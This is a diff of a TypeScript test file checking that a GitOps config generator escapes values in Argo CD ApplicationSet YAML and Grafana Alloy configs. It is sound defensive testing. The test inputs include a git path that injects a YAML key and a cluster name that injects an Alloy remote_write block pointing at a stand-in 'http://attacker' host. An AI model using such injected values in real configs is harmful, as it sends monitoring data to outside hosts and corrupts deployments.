@@ -61,12 +61,14 @@ test('C1: values cannot change the structure of the YAML they land in: new keys,
   }
 });
 
-test('C1 (GAP): git.path is spliced into the ApplicationSets as text, so only its schema pattern keeps it from adding keys', () => {
-  // GAP: templates/argocd/member-appset.yaml.hbs writes '{{pathPrefix}}gitops/...' instead of passing the
-  // value through {{yaml}}; a path that skipped validation adds a key. Fails once the template escapes it.
-  const docs = documents(renderUnchecked((s) => { s.git.path = "p'\n        evil: 'x"; }));
-  assert.ok(docs.some((d) => strings(d.value).includes('evil')), 'the injected key is there today');
-  // What keeps users safe today: the schema refuses such a path.
+test('C1: git.path reaches the ApplicationSets through the yaml helper: a hostile path stays one scalar', () => {
+  const path = "p'\n        evil: 'x";
+  const docs = documents(renderUnchecked((s) => { s.git.path = path; }));
+  assert.not.ok(docs.some((d) => d.value && typeof d.value === 'object' && JSON.stringify(d.value).includes('"evil":')), 'no key injected');
+  const appsets = docs.filter((d) => d.value?.kind === 'ApplicationSet' && ['alloy-agents', 'instrumented-apps'].includes(d.value.metadata.name));
+  assert.is(appsets.length, 2);
+  for (const a of appsets) assert.is(a.value.spec.template.spec.source.path, `${path}/gitops/components/{{.values.component}}/overlays/{{.name}}`);
+  // And the schema refuses such a path in the first place.
   assert.equal(diagnostics(validate(REFERENCE.replace('revision: main', 'revision: main\n  path: "p\'\\n  evil: x"'))).map((d) => d.code), ['FAB104']);
 });
 
@@ -141,13 +143,12 @@ test('C6: values in Alloy and PromQL stay inside their string literals; Alloy la
   assert.ok(rules.some((r: any) => r.expr.includes(`job=${JSON.stringify(app)}`)), 'the app name is one escaped label value');
 });
 
-test('C6 (GAP): cluster and environment names are spliced into Alloy comments, so only the name rule keeps them from adding components', () => {
-  // GAP: templates/config/agent.alloy.hbs opens with `// Agent of cluster {{cluster.name}}, environment {{env.name}}`;
-  // a name that skipped validation ends the comment and defines a component. Fails once the header escapes it.
+test('C6: cluster and environment names reach Alloy configs only inside escaped strings, never in comments', () => {
   const evil = 'x\nprometheus.remote_write "evil" {\n  endpoint { url = "http://attacker" }\n}\n//';
   const files = renderUnchecked((s) => { s.clusters[evil] = s.clusters['stage-cluster']; delete s.clusters['stage-cluster']; });
   const agent = files.find((f) => f.path.endsWith('config.alloy') && f.contents.includes('attacker'))!;
-  assert.is((agent.contents.match(/^prometheus\.remote_write /gm) ?? []).length, 2, 'the injected component is there today');
+  assert.is((agent.contents.match(/^prometheus\.remote_write /gm) ?? []).length, 1, 'no component injected');
+  assert.equal(checkAlloy(agent.contents), [], 'still one well-formed config');
   assert.equal(diagnostics(validate(REFERENCE.replace('  stage-cluster:', '  "x\\nprometheus.remote_write":'))).map((d) => d.code), ['FAB105']);
 });
 
